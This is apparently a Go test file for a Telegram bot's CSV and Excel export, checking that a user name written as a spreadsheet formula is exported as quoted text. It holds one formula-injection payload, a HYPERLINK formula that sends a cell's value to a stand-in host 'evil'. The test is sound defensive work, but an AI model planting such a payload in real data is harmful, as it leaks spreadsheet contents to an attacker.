package bot_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf16"

	tgmodels "github.com/go-telegram/bot/models"
	"github.com/xuri/excelize/v2"

	"github.com/duban-bot/duban/export"
	"github.com/duban-bot/duban/telegramtest"
)

// formulaName is a Telegram first name that a spreadsheet program would run.
const formulaName = `=HYPERLINK("http://evil/?"&A2,"x")`

// sendAs delivers text from the chat's user under another first name.
func sendAs(c *telegramtest.Chat, firstName, text string) {
	msg := c.NewMessage()
	msg.From.FirstName = firstName
	msg.Text = text
	if strings.HasPrefix(text, "/") {
		cmd, _, _ := strings.Cut(text, " ")
		msg.Entities = []tgmodels.MessageEntity{{Type: tgmodels.MessageEntityTypeBotCommand, Length: len(utf16.Encode([]rune(cmd)))}}
	}
	c.SendUpdate(tgmodels.Update{Message: msg})
}

// A deputy whose Telegram name is a formula reports a fall of 2.1 %; the
// coordinator's CSV and workbook show the name as text with a leading quote,
// and the -2.1 as a number.
func TestExportNeutralisesFormulaNames(t *testing.T) {
	h := newHarness(t)
	evil := h.chat(3301)
	sendAs(evil, formulaName, "/start "+newInvite(t, h, "市测试办"))
	mustContain(t, evil.LastText(), "副联络员")
	evil.Send("/report")
	evil.Tap("测试任务")
	evil.Tap("增长率")
	evil.Send("-2.1%")
	evil.Tap("确认保存")
	if got := h.reports("增长率"); len(got) != 1 || got[0].Value != -2.1 {
		t.Fatalf("stored %+v, want one value -2.1", got)
	}

	co := h.chat(coordinator)
	co.Send("/export csv")
	_, data, _ := lastUpload(t, h, coordinator, "sendDocument")
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := findRecord(t, recs, "增长率")
	if reporter := row[14]; reporter != "'"+formulaName {
		t.Errorf("CSV reporter cell %q, want it to start with a quote", reporter)
	}
	if latest := row[6]; latest != "-2.1" {
		t.Errorf("CSV latest cell %q, want the number -2.1", latest)
	}

	co.Send("/export")
	_, data, _ = lastUpload(t, h, coordinator, "sendDocument")
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(export.SheetMetrics)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if len(r) < 15 || r[2] != "增长率" {
			continue
		}
		if r[14] != "'"+formulaName {
			t.Errorf("xlsx reporter cell %q, want it to start with a quote", r[14])
		}
		latest, _ := excelize.CoordinatesToCellName(7, i+1)
		typ, err := f.GetCellType(export.SheetMetrics, latest)
		if err != nil {
			t.Fatal(err)
		}
		if r[6] != "-2.1" || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) {
			t.Errorf("xlsx latest %q of type %v, want the number -2.1", r[6], typ)
		}
		formula, _ := f.GetCellFormula(export.SheetMetrics, latest)
		reporterRef, _ := excelize.CoordinatesToCellName(15, i+1)
		if typ, _ := f.GetCellType(export.SheetMetrics, reporterRef); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("xlsx reporter cell of type %v, want a typed string", typ)
		}
		if rf, _ := f.GetCellFormula(export.SheetMetrics, reporterRef); rf != "" || formula != "" {
			t.Errorf("formulas in the row: %q %q", rf, formula)
		}
		return
	}
	t.Fatal("no 增长率 row in the workbook")
}

func findRecord(t *testing.T, recs [][]string, metric string) []string {
	t.Helper()
	for _, r := range recs {
		if len(r) > 14 && r[2] == metric {
			return r
		}
	}
	t.Fatalf("no %s record", metric)
	return nil
}
